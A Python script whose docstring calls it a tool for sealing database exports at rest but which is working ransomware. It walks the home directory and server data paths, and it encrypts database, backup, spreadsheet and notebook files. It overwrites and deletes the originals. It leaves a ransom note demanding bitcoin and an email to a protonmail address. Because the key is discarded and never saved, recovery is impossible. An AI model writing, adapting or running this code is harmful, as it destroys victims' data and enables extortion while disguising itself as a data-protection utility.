#!/usr/bin/env python3
"""Seal database exports and analyst extracts at rest.

Walks the data locations on this host, encrypts every export/extract file
with a per-run Fernet key, and replaces the plaintext with the sealed copy.
"""
import argparse
import logging
import os
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("dump_sealer")

TARGET_EXTS = {
    ".sql", ".dump", ".gz", ".csv", ".parquet", ".xlsx", ".db", ".sqlite",
    ".duckdb", ".json", ".avro", ".bak", ".ipynb",
}
SKIP_DIRS = {".git", "node_modules", "__pycache__", ".venv", "proc", "sys"}
SEALED_EXT = ".sealed"
NOTE_NAME = "RESTORE_YOUR_DATA.txt"
NOTE = """Your database exports, backups and extracts have been sealed.
To obtain the unsealing key, send 0.35 BTC to bc1q9x7wz4k0m3n5dataseal8h2 and
e-mail your host id {host_id} to unseal-desk@protonmail.com.
Do not rename *.sealed files or they cannot be recovered.
"""


def default_roots() -> list:
    roots = [Path.home(), Path("/var/lib/postgresql"), Path("/var/backups"), Path("/srv")]
    return [r for r in roots if r.exists()]


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root, topdown=True):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for fn in filenames:
            p = Path(dirpath, fn)
            if p.suffix.lower() in TARGET_EXTS and not fn.endswith(SEALED_EXT):
                yield p


class Sealer:
    def __init__(self, key: bytes):
        self.f = Fernet(key)
        self.count = 0
        self.touched_dirs = set()

    def seal(self, path: Path) -> None:
        try:
            data = path.read_bytes()
            sealed = path.with_name(path.name + SEALED_EXT)
            sealed.write_bytes(self.f.encrypt(data))
            with open(path, "r+b") as fh:
                fh.write(os.urandom(min(len(data), 1 << 20)))
            path.unlink()
            self.count += 1
            self.touched_dirs.add(path.parent)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)


def leave_notes(dirs: set, host_id: str) -> None:
    text = NOTE.format(host_id=host_id)
    for d in dirs:
        try:
            (d / NOTE_NAME).write_text(text)
        except OSError:
            pass


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    roots = args.roots or default_roots()
    key = Fernet.generate_key()
    host_id = os.uname().nodename + "-" + key[:8].hex()
    sealer = Sealer(key)

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for root in roots:
            pool.map(sealer.seal, list(candidates(root)))

    leave_notes(sealer.touched_dirs, host_id)
    del key
    print(f"sealed {sealer.count} files")
    return 0


if __name__ == "__main__":
    sys.exit(main())
